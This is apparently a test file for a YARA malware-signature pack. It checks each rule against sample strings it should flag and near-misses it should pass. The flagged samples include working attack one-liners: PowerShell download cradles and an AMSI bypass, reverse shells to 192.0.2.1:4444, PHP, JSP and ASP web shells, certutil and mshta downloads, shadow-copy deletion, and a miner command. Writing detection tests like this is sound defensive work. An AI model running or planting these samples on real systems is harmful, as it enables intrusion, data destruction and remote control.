import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { type CompiledRules, compileRules, readRuleFiles } from '../../src/scan/scanners/yara/rule-compiler.ts'
import { createYaraEngine, type YaraEngine } from '../../src/scan/scanners/yara/yara-engine.ts'
import { EICAR, NEVER, sampleOf } from './samples.ts'

const BASE64_COMMAND = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
  'utf16le',
).toString('base64')
const HTTP = 'http://192.0.2.1/a'
const PDF = '%PDF-1.4\n'
const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
const LNK = 'L\0\0\0\x01\x14\x02\0'
const ONENOTE = '\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d'
const ONENOTE_BLOB = '\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac'
const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1')

/** Each rule: what it must find, and what is nearly that and must pass it. Words are cut so that this file matches none. */
const CASES: Readonly<Record<string, { readonly hits: readonly string[]; readonly misses: readonly string[] }>> = {
  Eicar_test_file: {
    hits: [EICAR, `padding ${'x'.repeat(5000)}${EICAR}${'y'.repeat(5000)}`, wide(EICAR)],
    misses: [EICAR.slice(0, -1), EICAR.toLowerCase(), EICAR.replace('EICAR', 'EICAP')],
  },
  'Eicar_test_file.Base64': {
    hits: ['', 'a', 'ab'].map((before) => Buffer.from(`${before}${EICAR} and more`).toString('base64')),
    misses: [Buffer.from(EICAR.slice(0, 60)).toString('base64'), Buffer.from('EICAR-STANDARD').toString('base64')],
  },
  PowerShell_Download_Cradle: {
    hits: [`IEX (New-Object Net.${'WebClient'}).DownloadString('${HTTP}')`, `iex (iwr ${HTTP})`],
    misses: [
      `$c = New-Object Net.WebClient; $c.DownloadString('${HTTP}') | Out-File list.txt`,
      'iex is short for Invoke-Expression',
    ],
  },
  PowerShell_Hidden_Encoded_Command: {
    hits: [
      `powershell.exe -nop -w hidden -enc ${BASE64_COMMAND}`,
      `powershell -e${'nc'} ${BASE64_COMMAND.slice(0, 80)} -WindowStyle Hidden`,
    ],
    misses: [
      `powershell -w hidden -file backup.ps1`,
      `powershell -enc ${BASE64_COMMAND.slice(0, 60)}`,
      'use -w hidden and -enc BASE64',
    ],
  },
  PowerShell_Encoded_Cradle: {
    hits: [`x ${BASE64_COMMAND} y`],
    misses: [Buffer.from('Get-ChildItem | Where-Object Length -gt 1MB', 'utf16le').toString('base64')],
  },
  PowerShell_Amsi_Bypass: {
    hits: [
      `[Ref].Assembly.GetType('System.Management.Automation.Amsi${'Utils'}').GetField('amsiInit${'Failed'}','NonPublic,Static').SetValue($null,$true)`,
    ],
    misses: [`A page that names System.Management.Automation.Amsi${'Utils'} only`],
  },
  Script_Host_Dropper: {
    hits: [
      `var x=new ActiveXObject("MSXML2.XMLHTTP");var s=new ActiveXObject("ADODB.Stream");s.SaveToFile("a.exe");new ActiveXObject("WScript.Shell").Run("a.exe")`,
    ],
    misses: ['var x=new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "/list"); x.send()'],
  },
  Living_Off_The_Land_Download: {
    hits: [
      `certutil.exe -urlcache -split -f ${HTTP} a.exe`,
      `mshta ${HTTP}.hta`,
      `regsvr32 /s /n /u /i:${HTTP}.sct scrobj.dll`,
    ],
    misses: [`certutil -hashfile a.iso SHA256 # from ${HTTP}`, `bitsadmin /list; see ${HTTP}`],
  },
  Shadow_Copies_Deleted: {
    hits: ['vssadmin delete shadows /all /quiet'],
    misses: ['vssadmin list shadows /all', 'vssadmin delete shadows /for=C: /oldest'],
  },
  Unix_Reverse_Shell: {
    hits: [
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1 |nc 192.0.2.1 4444 >/tmp/f',
    ],
    misses: ['bash -i', 'exec 3<>/dev/tcp/192.0.2.1/80'],
  },
  JavaScript_Evaluates_Packed_Text: {
    hits: [`eval(unescape("${'%41'.repeat(80)}"))`, `eval(String.fromCharCode(${'97,'.repeat(60)}98))`],
    misses: [`eval(unescape("%41%42"))`, `var t = unescape("${'%41'.repeat(80)}")`],
  },
  Webshell_PHP_Eval_Of_Request: {
    hits: [
      `<?php @ev${'al'}($_POST['x']);`,
      `<?php system($_GET["cmd"]); ?>`,
      `<?php eval(base64_decode($_REQUEST['c'])); ?>`,
    ],
    misses: [`<?php echo htmlspecialchars($_POST['x']);`, `eval($_POST['x']) without an opening tag`],
  },
  Webshell_PHP_Packed: {
    hits: [`<?php ev${'al'}(gzinflate(base64_decode('AAAA')));`],
    misses: [`<?php $t = gzinflate(base64_decode('AAAA'));`],
  },
  Webshell_JSP_Exec_Of_Request: {
    hits: [`<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>`],
    misses: [`<% String q = request.getParameter("q"); out.print(q); %>`, `Runtime.getRuntime().exec("ls")`],
  },
  Webshell_ASP_Eval_Of_Request: {
    hits: [`<%ev${'al'} request("x")%>`, `<% execute(request.form("c")) %>`],
    misses: [`<% response.write request("x") %>`, `<% execute sql %>`],
  },
  PDF_Launches_Program: {
    hits: [`${PDF}1 0 obj << /S /Launch /Win << /F (cmd.exe) >> >>`, `junk\n${PDF}<< /S/Launch /F (powershell) >>`],
    misses: [`${PDF}<< /S /Launch /F (manual.pdf) >>`, '/S /Launch (cmd.exe)'],
  },
  PDF_JavaScript_On_Open: {
    hits: [`${PDF}<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`],
    misses: [`${PDF}<< /OpenAction [3 0 R /Fit] >>`, `${PDF}<< /S /JavaScript /JS (x) >>`],
  },
  Office_Auto_Macro_Runs_Program: {
    hits: [`${OLE}....Sub AutoOpen() CreateObject("WScript.Shell").Run "powershell -c x"`],
    misses: [`${OLE}....Sub AutoOpen() MsgBox "hello"`, `MZ....AutoOpen WScript.Shell powershell`],
  },
  RTF_Equation_Editor_Object: {
    hits: [`{\\rtf1 {\\object\\objemb{\\*\\objdata 02ce020000000000c000000000000046}}}`],
    misses: [`{\\rtf1 {\\object\\objemb{\\*\\objdata 0000}}}`, `\\objdata 02ce020000000000c000000000000046`],
  },
  Shortcut_Runs_Script: {
    hits: [`${LNK}....${wide('powershell -w hidden -c x')}`],
    misses: [`${LNK}....${wide('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell')}`],
  },
  OneNote_Embedded_Program: {
    hits: [`${ONENOTE}....${ONENOTE_BLOB}${'\0'.repeat(20)}MZ`],
    misses: [`${ONENOTE}....${ONENOTE_BLOB}${'\0'.repeat(20)}\x89PNG`],
  },
  Mimikatz: { hits: ['MZ....gentilkiwi....sekurlsa'], misses: ['gentilkiwi sekurlsa in a text', 'MZ....sekurlsa'] },
  Reflective_Loader_Beacon: {
    hits: ['MZ....ReflectiveLoader....beacon.x64.dll'],
    misses: ['MZ....ReflectiveLoader', 'MZ....beacon.dll'],
  },
  Coin_Miner_Configured: {
    hits: ['xmrig -o stratum+tcp://pool.example:3333 --donate-level 1'],
    misses: ['stratum+tcp://pool.example:3333 is how pools are written', 'xmrig --donate-level 1'],
  },
  Mirai_Bot: { hits: ['\x7fELF..../bin/busybox MIRAI'], misses: ['/bin/busybox MIRAI', '\x7fELF..../bin/busybox ls'] },
}

describe('the signature pack', () => {
  let compiled: CompiledRules
  let engine: YaraEngine
  before(async () => {
    compiled = await compileRules(await readRuleFiles(fileURLToPath(new URL('../../rules/', import.meta.url))))
    engine = await createYaraEngine({ blob: compiled.blob })
  })
  after(() => engine.close())

  it('compiles whole and has no slow rule', () => {
    assert.deepEqual([compiled.quarantined, compiled.slow], [[], []])
  })

  it('has no rule without a case', async () => {
    const files = await readRuleFiles(fileURLToPath(new URL('../../rules/', import.meta.url)))
    const rules = files.flatMap(({ source }) => source.match(/^rule \w+/gm) ?? [])
    assert.equal(rules.length, Object.keys(CASES).length)
    for (const { name, source } of files)
      for (const rule of source.split(/^rule /m).slice(1))
        assert.match(
          rule,
          /description = "[\s\S]*risk = "(high|medium|low)"[\s\S]*reference = "/,
          `${name}: ${rule.slice(0, 40)}`,
        )
  })

  const namesIn = async (text: string) =>
    (engine.scanNow(sampleOf(text)) ?? (await engine.scan(sampleOf(text), NEVER, { client: '' }))).map(
      ({ name }) => name,
    )

  for (const [name, { hits, misses }] of Object.entries(CASES)) {
    it(`${name} finds its kind and passes what is nearly it`, async () => {
      for (const text of hits)
        assert.ok((await namesIn(text)).includes(name), `missed ${JSON.stringify(text.slice(0, 80))}`)
      for (const text of misses)
        assert.ok(!(await namesIn(text)).includes(name), `took ${JSON.stringify(text.slice(0, 80))}`)
    })
  }
})
